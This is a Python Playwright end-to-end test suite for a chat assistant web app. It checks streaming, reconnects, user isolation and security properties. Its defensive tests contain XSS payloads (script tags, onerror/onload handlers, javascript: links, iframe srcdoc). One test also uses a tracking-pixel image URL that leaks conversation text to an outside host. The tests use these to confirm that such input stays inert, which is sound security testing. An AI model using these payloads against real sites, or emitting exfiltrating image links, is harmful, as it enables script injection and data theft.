"""A user's whole journey in a real browser, through nginx, against the real services; and what must stay inert."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.async_api import Browser, BrowserContext, Page, Route, expect

from tests.e2e.conftest import WAIT_MS, Stack, send, sign_in, wait_for_idle, wait_for_reply
from tests.fakes.openai_server import FakeOpenAI, hang, text, tool_calls

MARKDOWN_REPLY = (
    "Saved it. Here is how to read it back:\n\n```python\nprint(notes.get('groceries'))\n```\n\nIt has **two** items."
)


async def test_a_user_signs_in_chats_with_tools_stops_a_turn_reloads_and_signs_out(
    page: Page, stack: Stack, fake_openai: FakeOpenAI, screenshots: Path
) -> None:
    await page.goto(stack.url + "/")
    await expect(page).to_have_url(stack.url + "/login?next=%2F")
    await page.screenshot(path=screenshots / "sign-in.png")
    await sign_in(page, stack, "alice")

    # A turn with a tool call: the card shows server, tool and arguments, then the streamed, rendered reply.
    fake_openai.script(
        tool_calls([("test__slow", {"seconds": 0.6})]),
        hang(2.0, text(MARKDOWN_REPLY, chunk_size=4), after_chunks=3),
    )
    await send(page, "Save a note about groceries")
    card = page.locator(".tool-card").first
    await expect(card.locator(".tool-card-name")).to_contain_text("slow")
    await expect(card.locator(".tool-card-arguments")).to_contain_text('"seconds": 0.6')
    await expect(card).to_have_attribute("data-state", "done")
    reply = page.locator(".message.assistant .message-body").last
    # The first tokens show while the model is still holding the rest back.
    await expect(reply).to_contain_text("Saved")
    assert await page.evaluate("document.body.dataset.turnState") == "streaming"
    await wait_for_idle(page)
    await expect(reply.locator("pre code")).to_contain_text("print(notes.get('groceries'))")
    await expect(reply.locator("strong")).to_have_text("two")
    await expect(card.locator(".tool-card-result")).to_contain_text("finished")
    await page.screenshot(path=screenshots / "chat.png")

    # Stop: the model stalls mid-reply; Stop ends the turn and keeps what was said.
    fake_openai.script(hang(30, text("This reply will be stopped halfway through.", chunk_size=5), after_chunks=2))
    await send(page, "Tell me a long story")
    await expect(page.locator(".message.assistant .message-body").last).to_contain_text("This")
    await page.locator("#stop-button").click()
    await wait_for_idle(page)
    await expect(page.locator("#send-button")).to_be_visible()

    # Reload: the whole history comes back from the server.
    conversation_url = page.url
    assert "/c/" in conversation_url
    await page.reload()
    await expect(page.locator(".message.user")).to_have_count(2)
    await expect(page.locator(".message.user").first).to_contain_text("Save a note about groceries")
    await expect(page.locator(".tool-card").first.locator(".tool-card-name")).to_contain_text("slow")
    await expect(page.locator(".message.assistant .message-body strong")).to_have_text("two")
    await expect(page.locator("#conversation-list li[data-conversation-id]")).to_have_count(1)

    await page.goto(stack.url + "/servers")
    await expect(page.get_by_text("test", exact=True).first).to_be_visible()
    await page.screenshot(path=screenshots / "servers.png")

    await page.get_by_role("button", name="Sign out").click()
    await expect(page).to_have_url(stack.url + "/login")
    await page.goto(conversation_url)
    await expect(page).to_have_url(f"{stack.url}/login?next=%2Fc%2F{conversation_url.rsplit('/', 1)[1]}")


async def test_a_reply_goes_on_through_a_reload_and_shows_once(
    page: Page, stack: Stack, fake_openai: FakeOpenAI
) -> None:
    await sign_in(page, stack, "reloader")
    answer = "Reloading the page loses nothing: the rest of this answer arrives once."
    fake_openai.script(hang(4.0, text(answer, chunk_size=4), after_chunks=3))
    await send(page, "Answer me slowly")
    await expect(page.locator(".message.assistant .message-body").last).to_contain_text("Reloadin")
    assert "/c/" in page.url

    await page.reload()

    # The page follows the reply still being written: what was said so far, then the rest as it comes.
    await expect(page.locator(".message.assistant.is-streaming")).to_have_count(1)
    reply = page.locator(".message.assistant .message-body").last
    await expect(reply).to_contain_text("Reloadin")
    await expect(reply).to_contain_text(answer)
    await wait_for_idle(page)
    await expect(page.locator(".message.assistant")).to_have_count(1)
    assert (await reply.inner_text()).count("Reloading") == 1
    await page.reload()  # and the stored reply is the same
    await expect(page.locator(".message.assistant .message-body").last).to_have_text(answer)


async def test_a_reply_whose_stream_is_lost_is_read_to_its_end_after_reconnecting(
    page: Page, stack: Stack, fake_openai: FakeOpenAI
) -> None:
    await sign_in(page, stack, "roamer")
    answer = "The stream broke after two pieces; this answer still arrives whole and once."
    fake_openai.script(text(answer, chunk_size=4))

    async def break_off_after_two_tokens(route: Route) -> None:
        """The reply's stream ends after message_start and two tokens, as a dropped connection would."""
        upstream = await route.fetch()
        events = (await upstream.text()).split("\n\n")
        await route.fulfill(
            status=200, headers={"content-type": "text/event-stream"}, body="\n\n".join(events[:3]) + "\n\n"
        )

    await page.route(re.compile(r".*/api/conversations/[^/]+/messages$"), break_off_after_two_tokens)
    reconnects: list[str] = []
    page.on("request", lambda request: reconnects.append(request.url) if "/events" in request.url else None)
    await send(page, "Answer me over a bad network")

    reply = page.locator(".message.assistant .message-body").last
    await expect(reply).to_contain_text(answer)
    await wait_for_idle(page)
    assert (await reply.inner_text()).count("The stream") == 1
    await expect(page.locator(".turn-error")).to_have_count(0)
    assert [url.rsplit("/", 1)[1].startswith("events?after=") for url in reconnects] == [True]


async def test_the_chat_fits_a_phone_and_follows_a_dark_system_theme(
    browser: Browser, stack: Stack, fake_openai: FakeOpenAI, screenshots: Path
) -> None:
    context = await browser.new_context(
        ignore_https_errors=True, viewport={"width": 390, "height": 844}, color_scheme="dark", is_mobile=True
    )
    context.set_default_timeout(WAIT_MS)
    page = await context.new_page()
    await sign_in(page, stack, "phone-user")
    fake_openai.script(text("Hello from a small screen."))
    await send(page, "hi")
    await wait_for_reply(page, "small screen")

    width = await page.evaluate("document.documentElement.scrollWidth")
    background = await page.evaluate("getComputedStyle(document.body).backgroundColor")
    await page.screenshot(path=screenshots / "chat-phone-dark.png")
    await context.close()

    assert width <= 390
    red, green, blue = (int(part) for part in background.removeprefix("rgb(").rstrip(")").split(",")[:3])
    assert red + green + blue < 3 * 100, f"not a dark background: {background}"


async def test_a_second_user_cannot_see_or_open_the_first_users_conversation(
    browser: Browser, stack: Stack, fake_openai: FakeOpenAI
) -> None:
    first = await _new_page(browser)
    await sign_in(first, stack, "owner")
    fake_openai.script(text("Private answer."))
    await send(first, "my private question")
    await wait_for_reply(first, "Private answer.")
    private_url = first.url

    second = await _new_page(browser)
    await sign_in(second, stack, "intruder")
    await expect(second.locator("#conversation-list li[data-conversation-id]")).to_have_count(0)
    response = await second.goto(private_url)

    assert response is not None
    assert response.status == 404
    await expect(second.locator("body")).not_to_contain_text("my private question")
    api = await second.request.get(private_url.replace("/c/", "/api/conversations/"))
    assert api.status == 404
    await first.context.close()
    await second.context.close()


XSS_MARKDOWN = (
    "<img src=x onerror=\"window.__xss='img'\"> <script>window.__xss='script'</script>\n\n"
    "[click me](javascript:window.__xss='link') <svg onload=\"window.__xss='svg'\"></svg>\n\n"
    "<iframe srcdoc=\"<script>parent.__xss='iframe'</script>\"></iframe>"
)
XSS_TEXT = "<img src=x onerror=\"window.__xss='tool'\"><script>window.__xss='tool-script'</script>"


async def test_script_in_model_output_tool_output_and_titles_stays_inert(
    page: Page, stack: Stack, fake_openai: FakeOpenAI
) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await sign_in(page, stack, "xss-target")
    fake_openai.script(tool_calls([("test__echo", {"text": XSS_TEXT})]), text(XSS_MARKDOWN))

    await send(page, XSS_TEXT)
    await wait_for_reply(page, "click me")
    conversation = page.url.rsplit("/", 1)[1]
    renamed = await page.request.patch(
        f"{stack.url}/api/conversations/{conversation}",
        data={"title": XSS_TEXT},
        headers={"X-CSRF-Token": await _csrf(page)},
    )
    await page.reload()
    await wait_for_idle(page)

    assert renamed.status == 200
    await expect(page.locator("#conversation-list")).to_contain_text("<script>")
    await expect(page.locator(".tool-card-result").first).to_contain_text("<script>")
    assert await page.locator(".message-body script, .message-body iframe, .message-body svg").count() == 0
    assert await page.locator("[onerror], [onload]").count() == 0
    assert await page.locator("a[href^='javascript']").count() == 0
    assert await page.evaluate("window.__xss === undefined")
    assert dialogs == []


async def test_page_scripts_can_reach_neither_the_session_cookie_nor_the_api_token(page: Page, stack: Stack) -> None:
    await sign_in(page, stack, "token-holder")

    cookies = await page.evaluate("document.cookie")
    probe = await page.evaluate(
        """async () => {
            const response = await fetch('/auth/api-token', {headers: {'X-Original-Method': 'GET'}});
            return {status: response.status, token: response.headers.get('X-Api-Authorization')};
        }"""
    )
    html = await page.content()

    assert "assistant_session" not in cookies
    assert probe == {"status": 404, "token": None}
    assert "Bearer" not in html


class _RecordingServer(ThreadingHTTPServer):
    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _RecordingHandler)
        self.paths: list[str] = []


class _RecordingHandler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, _RecordingServer)
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, format: str, *args: object) -> None:
        return


@pytest.fixture
def outside_server() -> Iterator[_RecordingServer]:
    """Another origin that records every request it gets (an attacker's image host)."""
    server = _RecordingServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


async def test_an_external_markdown_image_makes_no_request(
    page: Page, stack: Stack, fake_openai: FakeOpenAI, outside_server: _RecordingServer
) -> None:
    port = outside_server.server_address[1]
    leak = f"http://127.0.0.1:{port}/pixel.gif?secret=conversation-text"
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    await sign_in(page, stack, "image-viewer")
    fake_openai.script(text(f"Look: ![tracking pixel]({leak}) and <img src='{leak}&html=1'>"))

    await send(page, "show me a picture")
    await wait_for_reply(page, "Look")
    await page.reload()
    await wait_for_idle(page)

    await expect(page.locator(".blocked-image").first).to_be_visible()
    assert outside_server.paths == []
    assert not [url for url in requested if f":{port}/" in url]


async def _new_page(browser: Browser) -> Page:
    context: BrowserContext = await browser.new_context(ignore_https_errors=True)
    context.set_default_timeout(WAIT_MS)
    return await context.new_page()


async def _csrf(page: Page) -> str:
    token = await page.locator("meta[name=csrf-token]").get_attribute("content")
    assert token
    return token
